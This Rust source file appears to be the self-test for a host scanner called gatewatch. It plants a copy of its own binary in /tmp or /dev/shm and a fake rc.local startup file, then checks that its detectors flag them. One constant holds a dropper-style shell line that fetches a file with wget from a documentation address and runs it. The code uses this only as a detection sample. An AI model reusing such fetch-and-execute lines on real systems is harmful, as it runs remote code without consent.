//! What is planted: a copy of this program that runs from a volatile place and sleeps, and a startup file in a tree of its
//! own that fetches a program and runs it. Both are gone again before the command ends.

use std::ffi::{CString, OsString};
use std::os::fd::AsFd;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use embedded_io::{Read, Write};
use gatewatch::engine;
use gatewatch::host::Fault;
use gatewatch::report::Looked;
use gatewatch::report::escape::Escaped;
use nix::fcntl::{AT_FDCWD, OFlag, open};
use nix::sys::signal::{SigSet, SigmaskHow};
use nix::sys::stat::{Mode, lstat};
use nix::unistd::{UnlinkatFlags, dup2_stdout, execv, mkdir, mkdtemp, unlink, unlinkat};

use super::{Wanted, look_with};
use crate::args::Scan;
use crate::diagnosis::{Report, State};
use crate::sys::child::{self, Child, Received};
use crate::sys::clock;
use crate::sys::fd::{self, Writer, fault};

/// Where programs do not belong.
const PLACES: [&str; 2] = ["/tmp", "/dev/shm"];

/// Seconds that the planted process stays at most; it is ended as soon as it was looked for, and ends with this one.
const STAYS_S: u64 = 60;
const STAYS_MS: u16 = 60_000;

/// A line as droppers write it. The address belongs to nobody (RFC 5737), and nobody runs the file.
const STARTUP: &[u8] = b"#!/bin/sh\ncd /tmp; wget http://192.0.2.1/selftest; chmod +x selftest; ./selftest\n";

/// Is the planted process: says that it runs, and sleeps.
pub fn stand() -> u8 {
    let status = crate::print(format_args!("planted\n"));
    clock::pause(STAYS_MS);
    status
}

/// Plants, looks, and removes what was planted.
pub fn find(scan: &Scan, device: &str, report: &mut Report) {
    // Signals that ask to end wait until all is removed.
    let before = SigSet::all().thread_swap_mask(SigmaskHow::SIG_BLOCK).ok();
    match Place::new() {
        Ok(place) => {
            process(scan, device, &place, report);
            if engine::STARTUP {
                startup(scan, device, &place, report);
            }
            if let Err(left) = place.remove() {
                let what =
                    format_args!("{}: what was planted is still there", Escaped(left.as_os_str().as_bytes()));
                report.say(State::Broken, "planted files", what, "remove it by hand");
            }
        }
        Err(fault) => {
            let what = format_args!("no directory can be made in /tmp or /dev/shm: {fault}");
            report.say(State::Broken, "planted files", what, "free some room, or make one of them writable");
        }
    }
    if let Some(before) = before {
        let _ = before.thread_set_mask();
    }
}

/// Starts a copy of this program from the volatile place, and looks for it.
fn process(scan: &Scan, device: &str, place: &Place, report: &mut Report) {
    const CHECK: &str = "exe-volatile";
    let shown = Escaped(place.program.as_os_str().as_bytes());
    let planted = match copy(&place.program).map(|()| start(&place.program)) {
        Ok(Some(planted)) => planted,
        Ok(None) => {
            let what = format_args!("{CHECK}: programs in {} cannot be run (noexec)", shown);
            return report.say(State::Limited, "planted process", what, "nothing to do: bots cannot either");
        }
        Err(fault) => {
            let what = format_args!("{shown}: {fault}");
            return report.say(State::Broken, "planted process", what, "free some room there");
        }
    };
    let pid = planted.id();
    let is = |finding: &gatewatch::report::Finding<'_>| finding.check == CHECK && finding.pid == Some(pid);
    let mut wanted = Wanted { is: &is, found: false, looked: None };
    let look = Scan { root: None, ..scan.clone() };
    look_with(&look, CHECK, device, &mut wanted);
    planted.finish(true);
    say(report, "planted process", CHECK, &wanted);
}

/// Looks at a tree with a planted startup file.
fn startup(scan: &Scan, device: &str, place: &Place, report: &mut Report) {
    const CHECK: &str = "startup-dropper";
    if let Err(fault) = place.plant() {
        let what = format_args!("{}: {fault}", Escaped(place.startup.as_os_str().as_bytes()));
        return report.say(State::Broken, "planted startup file", what, "free some room there");
    }
    let is =
        |finding: &gatewatch::report::Finding<'_>| finding.check == CHECK && finding.path == b"/etc/rc.local";
    let mut wanted = Wanted { is: &is, found: false, looked: None };
    let look = Scan { root: Some(OsString::from(place.dir.join("tree"))), ..scan.clone() };
    look_with(&look, CHECK, device, &mut wanted);
    say(report, "planted startup file", CHECK, &wanted);
}

fn say(report: &mut Report, topic: &str, check: &str, wanted: &Wanted<'_>) {
    let looked = wanted.looked.map_or("no", Looked::word);
    if wanted.found {
        report.say(State::Good, topic, format_args!("{check} found it"), "");
    } else {
        let what = format_args!("{check} did not find it (it looked: {looked})");
        report.say(State::Broken, topic, what, "gatewatch doctor tells what cannot be seen here, and why");
    }
}

/// Copies this very program to a new file.
fn copy(to: &Path) -> Result<(), Fault> {
    let from = open("/proc/self/exe", OFlag::O_CLOEXEC, Mode::empty()).map_err(fault)?;
    let (mut from, mut piece) = (fd::File::Open(from), [0_u8; 4096]);
    let flags = OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
    let file = open(to, flags, Mode::S_IRWXU).map_err(fault)?;
    loop {
        match from.read(&mut piece)? {
            0 => return Ok(()),
            length => Writer(file.as_fd()).write_all(piece.get(..length).unwrap_or_default())?,
        }
    }
}

/// Starts the copy, and waits until it runs. None where it may not.
fn start(program: &Path) -> Option<Child> {
    let path = CString::new(program.as_os_str().as_bytes()).ok()?;
    let arguments = [path.as_c_str(), c"selftest", c"planted"];
    let planted = child::start(STAYS_S.saturating_mul(1_000_000), |pipe| {
        if dup2_stdout(pipe).is_ok() {
            let _ = execv(&path, &arguments);
        }
        3
    });
    let planted = planted.ok()?;
    if matches!(planted.receive(&mut [0; 64]), Ok(Received::Bytes(1..))) {
        return Some(planted);
    }
    planted.finish(true);
    None
}

/// A directory of our own, and the names in it.
struct Place {
    dir: PathBuf,
    program: PathBuf,
    startup: PathBuf,
}

impl Place {
    fn new() -> Result<Self, Fault> {
        let mut why = Fault::NotFound;
        for place in PLACES {
            match mkdtemp(&Path::new(place).join("gatewatch-selftest-XXXXXX")) {
                Ok(dir) => {
                    let (program, startup) = (dir.join("gatewatch-selftest"), dir.join("tree/etc/rc.local"));
                    return Ok(Self { dir, program, startup });
                }
                Err(errno) => why = fault(errno),
            }
        }
        Err(why)
    }

    /// Makes the tree.
    fn plant(&self) -> Result<(), Fault> {
        for dir in ["tree", "tree/etc"] {
            mkdir(&self.dir.join(dir), Mode::S_IRWXU).map_err(fault)?;
        }
        let flags = OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
        let file = open(&self.startup, flags, Mode::S_IRUSR | Mode::S_IWUSR).map_err(fault)?;
        Writer(file.as_fd()).write_all(STARTUP)
    }

    /// Removes what was made, by name: nothing else that somebody put there. An error is what is left.
    fn remove(self) -> Result<(), PathBuf> {
        for file in [&self.program, &self.startup] {
            let _ = unlink(file);
        }
        for dir in ["tree/etc", "tree", ""] {
            let _ = unlinkat(AT_FDCWD, &self.dir.join(dir), UnlinkatFlags::RemoveDir);
        }
        if lstat(&self.dir).is_ok() { Err(self.dir) } else { Ok(()) }
    }
}
